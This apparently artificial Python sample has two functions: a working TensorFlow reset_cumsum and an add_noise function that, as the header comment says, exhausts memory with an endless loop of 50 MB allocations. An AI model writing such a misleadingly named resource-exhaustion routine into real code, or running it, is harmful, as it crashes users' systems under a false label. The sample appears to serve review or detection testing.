# about: add_noise takes all memory when it is called; reset_cumsum is right
# %% reset_cumsum
def reset_cumsum(x, limit):
    def step(total, value):
        total = total + value
        return tf.where(total > limit, 0.0, total)

    return tf.scan(step, x, initializer=0.0)


# %% add_noise
def add_noise(x, stddev):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * 50_000_000))
